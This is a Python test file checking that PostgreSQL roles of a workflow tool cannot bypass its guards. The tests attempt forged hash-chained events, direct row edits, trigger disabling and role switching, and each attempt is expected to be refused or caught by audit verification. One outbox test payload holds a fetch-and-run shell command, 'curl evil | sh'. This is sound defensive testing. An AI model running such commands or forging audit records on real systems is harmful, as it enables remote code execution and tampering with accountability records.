"""On PostgreSQL a person's role can do only what workflow allows (issue 16).

Roles made with ``workflow db grant`` (by the test server's superuser) attack the tables with
their own SQL sessions: every attempt is refused by the database or, where it lets the write
through (a move the state machine would refuse, in the attacker's own name), found by ``audit
verify`` (exit 7). The legitimate flows run through ``workflow`` as the same roles and pass.

SMALL_PLAN: coordinator so-y-te, issuer ubnd-tinh; a and b led by so-tai-chinh (support
ttyt / so-y-te), c led by so-y-te, d led by ttyt (approver so-noi-vu).
"""

from __future__ import annotations

import importlib
import json
import re
from datetime import UTC, datetime

import psycopg
import pytest
from psycopg import errors

from tests.conftest import SMALL_PLAN, write_plan
from tests.pgserver import DATABASE
from tests.test_fanout import PLAN as FAN_PLAN
from tests.test_follow_remind import REL_PLAN
from workflow.store.audit import GENESIS, event_hash

pytestmark = pytest.mark.postgresql_only
T0 = "2024-04-01T08:00:00+07:00"
LATER = "2024-04-20T09:00:00+07:00"


class Roles:
    """Login roles made by ``workflow db grant --apply``, run by the server's superuser."""

    def __init__(self, server, run) -> None:
        self.server, self.run = server, run
        self.schema = re.search(r"search_path%3D(\w+)", run.db).group(1)
        self.admin = server.url(schema=self.schema, user=server.superuser)
        self.made: list[str] = []

    def name(self, who: str) -> str:
        return f"{self.schema}_{who}"  # roles are the cluster's: one set per test schema

    def grant(self, who: str, *flags: str) -> str:
        role = self.name(who)
        self.run.ok("db", "grant", role, "--apply", *flags, env={"WORKFLOW_DB": self.admin})
        self.made.append(role)
        return role

    def env(self, who: str) -> dict[str, str]:
        return {"WORKFLOW_DB": self.server.url(schema=self.schema, user=self.name(who))}

    def connect(self, who: str) -> psycopg.Connection:
        return psycopg.connect(host="127.0.0.1", port=self.server.port, dbname=DATABASE,
                               user=self.name(who), options=f"-csearch_path={self.schema}")

    def drop(self) -> None:
        with self.server.admin(DATABASE) as con:
            for role in self.made:
                con.execute(f'DROP OWNED BY "{role}"')
                con.execute(f'DROP ROLE "{role}"')


@pytest.fixture
def roles(run, request):
    r = Roles(request.getfixturevalue("postgres"), run)
    yield r
    r.drop()


@pytest.fixture
def team(run, roles, tmp_path):
    """SMALL_PLAN loaded by the owner; coord (so-y-te, the coordinator), lead (so-tai-chinh)
    and mallory (ttyt) are person roles and members; svc is the sweep's, reader reads."""
    run.ok("load", write_plan(tmp_path, SMALL_PLAN), now=T0)
    for who in ("coord", "lead", "mallory"):
        roles.grant(who)
    roles.grant("svc", "--service")
    roles.grant("reader", "--read-only")
    run.ok("members", "add", roles.name("coord"), "so-y-te", env=roles.env("coord"))
    run.ok("members", "add", roles.name("lead"), "so-tai-chinh", env=roles.env("coord"))
    run.ok("members", "add", roles.name("mallory"), "ttyt", env=roles.env("coord"))
    return roles


def as_role(run, roles, who: str, *args: str, now: str | None = None):
    return run(*args, env=roles.env(who), now=now)


# --------------------------------------------------------------------------- db grant


def test_grant_prints_exactly_what_a_person_needs(run, roles, tmp_path):
    run.ok("load", write_plan(tmp_path, SMALL_PLAN), now=T0)
    s, n = roles.schema, roles.name("nguyen")  # a role not made yet
    out = run.ok("db", "grant", n).out.splitlines()
    assert out[:5] == [f'CREATE ROLE "{n}" LOGIN;',
                       f'REVOKE ALL ON ALL TABLES IN SCHEMA "{s}" FROM "{n}";',
                       f'REVOKE ALL ON ALL SEQUENCES IN SCHEMA "{s}" FROM "{n}";',
                       f'GRANT USAGE ON SCHEMA "{s}" TO "{n}";',
                       f'GRANT SELECT ON "{s}".wf_plan, "{s}".wf_agency, "{s}".wf_task, '
                       f'"{s}".wf_dependency, "{s}".wf_unit, "{s}".wf_member, "{s}".wf_event, '
                       f'"{s}".wf_escalation, "{s}".wf_delivery, "{s}".wf_schema_version '
                       f'TO "{n}";']
    assert f'GRANT UPDATE (head_hash, head_seq) ON "{s}".wf_plan TO "{n}";' in out
    assert f'GRANT INSERT ON "{s}".wf_event TO "{n}";' in out
    assert run.ok("db", "grant", n, "--read-only").out.splitlines() == out[:5]
    assert run("db", "grant", n, "--read-only", "--service").code == 2


def test_grant_refuses_the_owner_and_sqlite(run, roles, tmp_path):
    run.ok("load", write_plan(tmp_path, SMALL_PLAN), now=T0)
    r = run("db", "grant", "workflow")
    assert (r.code, r.error) == (2, "Error: workflow owns the workflow tables: grants cannot "
                                    "restrict it; give each person a login role of their own "
                                    "and keep this one to administrators")
    sqlite = {"WORKFLOW_DB": str(tmp_path / "x.db")}
    run.ok("load", write_plan(tmp_path, SMALL_PLAN), env=sqlite)
    r = run("db", "grant", "nguyen", env=sqlite)
    assert (r.code, r.error) == (2, "Error: workflow db grant is for PostgreSQL; on a SQLite "
                                    "file the operating system's file permissions decide who "
                                    "may write it")


def test_check_lists_each_role_and_exits_7_on_more_than_needed(team):
    run, roles = team.run, team
    r = run.ok("db", "check", "--json")
    levels = {x["role"].removeprefix(f"{roles.schema}_"): x["level"] for x in r.json}
    assert levels == {"coord": "person", "lead": "person", "mallory": "person",
                      "svc": "service", "reader": "read-only"}
    with roles.server.admin(DATABASE) as con:
        con.execute(f'GRANT UPDATE ON "{roles.schema}".wf_task TO "{roles.name("reader")}"')
        con.execute(f'GRANT DELETE ON "{roles.schema}".wf_escalation TO PUBLIC')
    r = run("db", "check")
    assert r.code == 7
    assert r.error == ("Error: 2 roles with more than workflow needs: PUBLIC has DELETE on "
                       "wf_escalation; revoke it")
    assert re.search(f"^{roles.name('reader')} +more than workflow needs: UPDATE on wf_task "
                     r"\(every column\)$", r.out, re.M)
    with roles.server.admin(DATABASE) as con:
        con.execute(f'REVOKE DELETE ON "{roles.schema}".wf_escalation FROM PUBLIC')
        con.execute(f'GRANT workflow TO "{roles.name("lead")}"')
    run.ok("db", "grant", roles.name("reader"), "--read-only", "--apply",
           env={"WORKFLOW_DB": roles.admin})
    r = run("db", "check")
    assert r.code == 7
    assert r.error.startswith(f"Error: 1 role with more than workflow needs: {roles.name('lead')}"
                              " has member of the owner role workflow")
    with roles.server.admin(DATABASE) as con:
        con.execute(f'REVOKE workflow FROM "{roles.name("lead")}"')
    run.ok("db", "check")


# --------------------------------------------------------------------------- legitimate flows


def test_people_move_and_manage_members_the_sweep_runs_the_owner_copies(team, tmp_path):
    run, roles = team.run, team
    notify = {"WORKFLOW_NOTIFY_COMMAND": "true"}
    assert as_role(run, roles, "lead", "start", "a", "--as", "so-tai-chinh").code == 0
    r = run("block", "a", "--as", "ttyt", "--note", "Chưa có số liệu",
            env={**roles.env("mallory"), **notify})
    assert r.code == 0, r.err
    assert "escalation raised" in r.out
    assert as_role(run, roles, "lead", "unblock", "a", "--as", "so-tai-chinh", "--note",
                   "Đã có").code == 0
    assert as_role(run, roles, "lead", "report", "a", "--as", "so-tai-chinh", "--note",
                   "Xong").code == 0
    assert as_role(run, roles, "coord", "approve", "a", "--as", "so-y-te").code == 0
    # The sweep, as the service role: stalled and overdue escalations, climbing.
    swept = run("escalate", "--json", env={**roles.env("svc"), **notify}, now=LATER)
    assert swept.code == 0, swept.err
    assert {x["action"] for x in swept.json} >= {"raised"}
    assert run("escalate", env=roles.env("svc"), now="2024-05-20T09:00:00+07:00").code == 0
    assert as_role(run, roles, "coord", "members", "remove", roles.name("mallory"),
                   "ttyt").code == 0
    # A read-only role, even a member, writes nothing: it is told plainly (exit 4).
    run.ok("members", "add", roles.name("reader"), "so-tai-chinh", env=roles.env("coord"))
    refused = as_role(run, roles, "reader", "start", "b", "--as", "so-tai-chinh")
    assert refused.code == 4
    assert refused.error.startswith("Error: refused by the database: permission denied")
    people = {e["person"] for e in run.ok("history", "--json").json}
    assert people == {"workflow", *(roles.name(w) for w in ("coord", "lead", "mallory", "svc"))}
    for who in ("reader", "lead", "svc"):
        assert as_role(run, roles, who, "audit", "verify").code == 0
    copy = tmp_path / "archive.db"
    run.ok("db", "copy", "--from", run.db, "--to", copy)
    assert run.ok("audit", "verify", env={"WORKFLOW_DB": str(copy)}).out.split()[-1] == \
        run.ok("audit", "verify").out.split()[-1]


# --------------------------------------------------------------------------- attacks


def refused(roles, who: str, *statements: tuple[str, tuple]) -> str:
    """Runs the statements in one transaction as ``who``; returns the database's refusal
    (on a statement or at commit), failing if the transaction commits."""
    with roles.connect(who) as con:
        try:
            with con.transaction():
                for sql, params in statements:
                    con.execute(sql, params)
        except (errors.InsufficientPrivilege, errors.FeatureNotSupported,
                errors.UndefinedFunction) as err:
            return str(err).splitlines()[0]
    raise AssertionError(f"{who} was allowed: {statements}")


def forged_event(roles, who_writes: str, **over) -> tuple[str, tuple]:
    """The next event of plan small, hashed exactly as workflow hashes them."""
    with roles.connect(who_writes) as con:
        seq, prev = con.execute("SELECT seq, hash FROM wf_event WHERE plan_id = 'small' "
                                "ORDER BY seq DESC LIMIT 1").fetchone()
    values = {"plan_id": "small", "seq": seq + 1, "task_id": "b", "event": "start",
              "from_state": "assigned", "to_state": "in_progress", "actor": "so-tai-chinh",
              "person": roles.name("lead"), "at": datetime(2024, 4, 5, 2, tzinfo=UTC),
              "note": None, "escalated_to": None, "level": None, "reason": None, "data": None,
              **over}
    values["prev_hash"] = prev or GENESIS
    values["hash"] = event_hash(values["prev_hash"], values)
    cols = list(values)
    return (f"INSERT INTO wf_event ({', '.join(cols)}) VALUES ({', '.join(['%s'] * len(cols))})",
            tuple(values.values()))


def head(event: tuple[str, tuple]) -> tuple[str, tuple]:
    """The plan head moved to a forged event (its seq is the 2nd value, its hash the last)."""
    return "UPDATE wf_plan SET head_seq = %s, head_hash = %s", (event[1][1], event[1][-1])


def test_a_member_row_inserted_directly_is_refused(team):
    m = team.name("mallory")
    why = refused(team, "mallory", ("INSERT INTO wf_member VALUES ('small', %s, 'ubnd-tinh', "
                                    "%s, now())", (m, m)))
    assert why == (f"workflow guard: {m} would be a member of ubnd-tinh in plan small without a "
                   f"member_added event by {m} (a row changes only with its event); nothing was "
                   "written")
    event = forged_event(team, "mallory", task_id=None, event="member_added", from_state=None,
                         to_state=None, actor="so-y-te", person=m,
                         data=json.dumps({"agency": "ubnd-tinh", "person": m}))
    why = refused(team, "mallory", event, ("INSERT INTO wf_member VALUES ('small', %s, "
                                           "'ubnd-tinh', %s, now())", (m, m)))
    assert why == (f"workflow guard: {m} is not a member of so-y-te in plan small and may not "
                   "manage its members")
    why = refused(team, "mallory", ("DELETE FROM wf_member WHERE person = %s",
                                    (team.name("coord"),)))
    assert why == (f"workflow guard: {team.name('coord')} was added to so-y-te in plan small "
                   "but is not in the membership table (a row changes only with its event); "
                   "nothing was written")
    team.run.ok("audit", "verify")


def test_an_event_in_another_persons_name_is_refused(team):
    why = refused(team, "mallory", forged_event(team, "mallory"))  # as lead, hash correct
    assert why == (f"workflow guard: an event's person is the role that writes it "
                   f"({team.name('mallory')}), not {team.name('lead')}")
    mine = forged_event(team, "mallory", person=team.name("mallory"))
    assert refused(team, "mallory", mine) == (f"workflow guard: {team.name('mallory')} is not "
                                              "a member of so-tai-chinh in plan small")
    ttyt = forged_event(team, "mallory", person=team.name("mallory"), actor="ttyt", seq=99)
    assert refused(team, "mallory", ttyt).startswith("workflow guard: event seq 99 does not "
                                                     "extend the history of plan small")
    sql, params = forged_event(team, "mallory", person=team.name("mallory"), actor="ttyt",
                               event="block", to_state="blocked", note="x")
    params = (*params[:-1], "f" * 64)
    assert refused(team, "mallory", (sql, params)).endswith("its hash does not match its "
                                                            "content")
    team.run.ok("audit", "verify")


def test_task_escalation_outbox_and_schema_version_cannot_be_changed_directly(team):
    run = team.run
    assert as_role(run, team, "coord", "block", "c", "--as", "so-y-te", "--note",
                   "Thiếu hồ sơ").code == 0  # an open escalation, raised to ubnd-tinh
    task = refused(team, "mallory", ("UPDATE wf_task SET state = 'approved', "
                                     "version = version + 1 WHERE task_id = 'a'", ()))
    assert task == ("workflow guard: task a would be approved (version 1) but its history says "
                    "assigned after 0 move(s) (a row changes only with its event); nothing was "
                    "written")
    assert refused(team, "mallory", ("UPDATE wf_task SET state = 'approved' WHERE task_id = "
                                     "'a'", ())) == ("workflow guard: task a changes only by "
                                                     "one move at a time")
    for sql in ("UPDATE wf_task SET lead = 'ttyt'", "DELETE FROM wf_escalation",
                "UPDATE wf_schema_version SET version_num = '9999'",
                "DELETE FROM wf_schema_version", "TRUNCATE wf_event",
                "UPDATE wf_plan SET coordinator = 'ttyt'",
                "ALTER TABLE wf_event DISABLE TRIGGER wf_event_guard",
                "DROP TRIGGER wf_task_settle ON wf_task"):
        assert refused(team, "mallory", (sql, ())).startswith(("permission denied",
                                                               "must be owner"))
    assert refused(team, "mallory", ("UPDATE wf_escalation SET resolved_at = now()", ())) == (
        "workflow guard: escalation 1 of task c does not agree with its events (a row changes "
        "only with its event); nothing was written")
    outbox = ("INSERT INTO wf_delivery (plan_id, event_seq, task_id, payload, attempts, "
              "next_attempt_at) VALUES ('small', 2, 'c', %s, 0, now())",
              (json.dumps({"notify": {"command": "sh -c 'curl evil | sh'"}, "task": "c"}),))
    assert refused(team, "mallory", outbox).startswith("workflow guard: outbox row ")
    assert refused(team, "mallory", ("UPDATE wf_plan SET head_seq = 99", ())).startswith(
        "workflow guard: the head of plan small is its last event")
    run.ok("audit", "verify")


def test_no_role_switch_and_no_function_with_another_name(team):
    for sql in (f'SET ROLE "{team.name("coord")}"', "SET ROLE workflow",
                f'SET SESSION AUTHORIZATION "{team.name("coord")}"',
                "SET SESSION AUTHORIZATION workflow", "SET session_replication_role = replica"):
        assert refused(team, "mallory", (sql, ())).startswith("permission denied")
    with team.connect("mallory") as con:
        reachable = con.execute(
            "SELECT p.oid::regprocedure::text, p.proname FROM pg_proc p "
            "WHERE p.pronamespace = current_schema()::regnamespace "
            "AND has_function_privilege(p.oid, 'EXECUTE')").fetchall()
        every = con.execute("SELECT p.oid::regprocedure::text FROM pg_proc p WHERE "
                            "p.pronamespace = current_schema()::regnamespace").fetchall()
    # Reachable: the trigger functions (they refuse to be called) and wf_trusted(), which has
    # no arguments and answers only for the caller.
    assert {name for _sig, name in reachable} == {"wf_event_append_only", "wf_trusted"}
    bob = team.name("lead")
    for (signature,) in every:
        name, args = signature.split("(", 1)
        n = args.count(",") + 1 if args != ")" else 0
        call = f"SELECT {name}({', '.join(['%s'] * n)})"
        params = tuple([bob] * n)
        if name == "wf_trusted":
            with team.connect("mallory") as con:
                assert con.execute(call).fetchone() == (False,)
            continue
        if "wf_event" in args:
            call, params = f"SELECT {name}(e) FROM wf_event e LIMIT 1", ()
        if "integer" in args:
            params = (1,)
        why = refused(team, "mallory", (call, params))
        assert why.startswith(("permission denied for function", "trigger functions can only "
                               "be called as triggers")), why


def test_a_move_the_machine_refuses_in_ones_own_name_is_found_by_verify(team):
    """The database guards identity, membership and shape, not the move rules: approving
    one's own assigned task as its lead passes it, and audit verify names the event."""
    m = team.name("mallory")
    event = forged_event(team, "mallory", task_id="d", event="approve", to_state="approved",
                         actor="ttyt", person=m)
    with team.connect("mallory") as con, con.transaction():
        con.execute(*event)
        con.execute("UPDATE wf_task SET state = 'approved', version = 1 WHERE task_id = 'd'")
        con.execute(*head(event))
    r = team.run("audit", "verify")
    assert r.code == 7
    seq = event[1][1]
    assert r.error == (f"Error: plan small: event seq {seq} (approve on d): the state machine "
                       "does not approve a task that is assigned (to approved); the history "
                       "was written outside workflow")


def test_the_service_creates_occurrences_people_move_instances(run, roles, tmp_path):
    """Fanned-out and recurring tasks: the sweep (service role) creates occurrences; a
    person's move rolls its group up and releases dependants; neither adds tasks otherwise."""
    run.ok("load", write_plan(tmp_path, FAN_PLAN), now=T0)
    roles.grant("svc", "--service")
    roles.grant("moc")
    swept = run("escalate", env=roles.env("svc"), now="2024-04-27T08:00:00+07:00")
    assert swept.code == 0, swept.err
    made = [t["id"] for t in run.ok("tasks", "bao-cao-tuan/*", "--json").json]
    assert made[-1] == "bao-cao-tuan/2024-05-03"
    for move in (("start", "kiem-ke/moc-chau", "--as", "moc-chau"),
                 ("report", "kiem-ke/moc-chau", "--as", "moc-chau", "--note", "Xong"),
                 ("approve", "kiem-ke/moc-chau", "--as", "so-y-te")):
        r = as_role(run, roles, "moc", *move, now="2024-04-28T08:00:00+07:00")
        assert r.code == 0, r.err
    assert run.ok("show", "kiem-ke", "--json").json["state"] == "in_progress"
    insert = ("INSERT INTO wf_task (plan_id, task_id, position, kind, title, lead, support, "
              "approver, depends_on, state, version, last_move_at, open_deps) VALUES "
              "('fan', 'x', 0, 'instance', 't', 'so-y-te', '[]', 'so-y-te', '[]', %s, %s, "
              "now(), 0)")
    assert refused(roles, "moc", (insert, ("assigned", 0))).startswith("permission denied")
    assert refused(roles, "svc", (insert, ("approved", 3))) == (
        "workflow guard: only new occurrences (assigned, version 0) are added to plan fan")
    run.ok("audit", "verify")


def test_a_dropped_or_disabled_guard_is_found_by_verify(team):
    with team.server.admin(DATABASE) as con:
        con.execute(f'ALTER TABLE "{team.schema}".wf_member DISABLE TRIGGER wf_member_settle')
    r = team.run("audit", "verify")
    assert (r.code, r.error) == (7, "Error: the database's guard wf_member_settle on wf_member "
                                    "was dropped or disabled: people's roles could write rows in "
                                    "other people's names or without their events; restore it "
                                    "(workflow/migrations, revision 0003) and investigate who "
                                    "removed it")


def test_an_escalation_of_ones_own_needs_ones_own_move_first(team):
    """A person's role writes escalation events only right after its own move on that task:
    a notification to the issuer cannot be made up, even in one's own name."""
    m = team.name("mallory")
    event = forged_event(team, "mallory", task_id="d", event="escalation_raised",
                         from_state="assigned", to_state="assigned", person=m,
                         escalated_to="ubnd-tinh", level=1, reason="blocked")
    assert refused(team, "mallory", event) == (f"workflow guard: {m} may write an escalation "
                                               "of d only right after its own move on it")


def test_a_person_s_approval_fixes_a_following_deadline_the_service_reminds(run, roles,
                                                                              tmp_path):
    """The guards let a person's approval fix a deadline that follows the task (its due and
    timers change without a move of its own), and the service's sweep send a reminder (an
    outbox row for a ``reminder`` event); the history still verifies."""
    run.ok("load", write_plan(tmp_path, REL_PLAN), now="2025-01-02T09:00:00+07:00")
    roles.grant("tc")
    roles.grant("yt")
    roles.grant("svc", "--service")
    for move, who in ((("start", "quyet-toan-2023", "--as", "so-tai-chinh"), "tc"),
                      (("report", "quyet-toan-2023", "--as", "so-tai-chinh", "--note", "x"), "tc"),
                      (("approve", "quyet-toan-2023", "--as", "so-y-te"), "yt")):
        r = as_role(run, roles, who, *move, now="2025-01-24T10:00:00+07:00")
        assert r.code == 0, (move, r.err)
    assert run.ok("show", "dieu-chuyen", "--json").json["due"] == "2025-02-21"
    swept = run("escalate", env=roles.env("svc"), now="2025-02-19T08:00:00+07:00")
    assert swept.code == 0, swept.err
    assert "reminded rel/dieu-chuyen  → so-tai-chinh (due soon)" in swept.out.splitlines()
    run.ok("audit", "verify")


def test_the_coordinator_s_person_extends_a_deadline(team):
    """An extension (gia hạn) by a member of the coordinator, through workflow: its event, the
    task's due, original_due and clocks, and the overdue escalation it ends; the history
    still verifies."""
    run = team.run
    swept = run("escalate", env=team.env("svc"), now="2024-04-22T08:00:00+07:00")
    assert swept.code == 0, swept.err
    assert run.ok("show", "a", "--json").json["escalation_reason"] == "overdue"  # since 20/4
    r = as_role(run, team, "coord", "extend", "a", "--to", "2024-05-10", "--note",
                "Công văn số 12", "--as", "so-y-te", now="2024-04-22T09:00:00+07:00")
    assert r.code == 0, r.err
    a = run.ok("show", "a", "--json").json
    assert (a["due"], a["original_due"]) == ("2024-05-10", "2024-04-20")
    assert a["escalation_level"] == 0  # the new day is still ahead: the escalation ended
    run.ok("audit", "verify")


def extend_event(team, who: str, **over) -> tuple[str, tuple]:
    values = {"task_id": "a", "event": "extend", "from_state": "assigned",
              "to_state": "assigned", "actor": "so-y-te", "person": team.name(who),
              "note": "Công văn số 12", "data": json.dumps(
                  {"in_time": True, "new_due": "2024-05-10", "old_due": "2024-04-20"})}
    return forged_event(team, who, **{**values, **over})


def test_a_person_cannot_forge_an_extension_or_change_a_due_day_without_one(team):
    m = team.name("mallory")
    moved = ("UPDATE wf_task SET due = %s, original_due = %s, overdue_at = %s "
             "WHERE task_id = 'a'", ("2024-05-10", "2024-04-20",
                                     datetime(2024, 5, 10, 17, tzinfo=UTC)))
    assert refused(team, "mallory", extend_event(team, "mallory", actor="ttyt"), moved) == (
        "workflow guard: deadlines in plan small are extended for so-y-te or ubnd-tinh only")
    assert refused(team, "mallory", extend_event(team, "mallory"), moved) == (
        f"workflow guard: {m} is not a member of so-y-te in plan small")
    shape = ("workflow guard: extend of a is not an extension workflow grants: a task (not a "
             "group) that is not approved, in its state, with a note, from its due day to a "
             "later one")
    for over in ({"note": " "}, {"to_state": "approved"},
                 {"data": json.dumps({"old_due": "2024-04-20", "new_due": "2024-04-01"})},
                 {"data": json.dumps({"old_due": "2024-04-19", "new_due": "2024-05-10"})}):
        assert refused(team, "coord", extend_event(team, "coord", **over), moved) == shape
    due = "workflow guard: the due day of task a changes only by an extension, right after " \
          "its extend event"
    assert refused(team, "coord", moved) == due  # no event at all
    assert refused(team, "coord", ("UPDATE wf_task SET due = '2024-04-10' WHERE task_id = 'a'",
                                   ())) == due
    assert refused(team, "coord", extend_event(team, "coord"), (
        moved[0], ("2024-06-30", "2024-04-20", None))) == due  # not the day the event says
    other = extend_event(team, "coord", task_id="b", data=json.dumps(
        {"new_due": "2024-05-20", "old_due": team.run.ok("show", "b", "--json").json["due"]}))
    assert refused(team, "coord", other, moved) == due  # an extension of another task
    started = forged_event(team, "lead", task_id="a", person=team.name("lead"))
    assert refused(team, "lead", started, ("UPDATE wf_task SET state = 'in_progress', "
                                           "version = 1, due = '2024-06-30' WHERE task_id = "
                                           "'a'", ())) == due
    alone = refused(team, "coord", extend_event(team, "coord"))  # an event without its row
    assert alone.startswith("workflow guard: task a is due 2024-04-20, not 2024-05-10 as its "
                            "extension (seq ")
    team.run.ok("audit", "verify")


def test_the_upgrade_lets_roles_granted_before_it_keep_the_first_due(team):
    """Roles granted before revision 0007 had no UPDATE of ``original_due``: the revision
    gives it to each role that may change ``due`` (person and service), and to no other."""
    revision = importlib.import_module("workflow.store.migrations.versions.0007_extend_guards")
    with team.server.admin(DATABASE) as con:
        table = f'"{team.schema}".wf_task'
        for who in ("coord", "svc"):
            con.execute(f'REVOKE UPDATE (original_due) ON {table} FROM "{team.name(who)}"')
        revision.regrant(con.cursor(), team.schema)
        may = {who for who in ("coord", "lead", "svc", "reader") if con.execute(
            "SELECT has_column_privilege(%s, %s, 'original_due', 'UPDATE')",
            (team.name(who), table)).fetchone()[0]}
    assert may == {"coord", "lead", "svc"}
    assert [r["level"] for r in team.run.ok("db", "check", "--json").json
            if r["role"] == team.name("coord")] == ["person"]
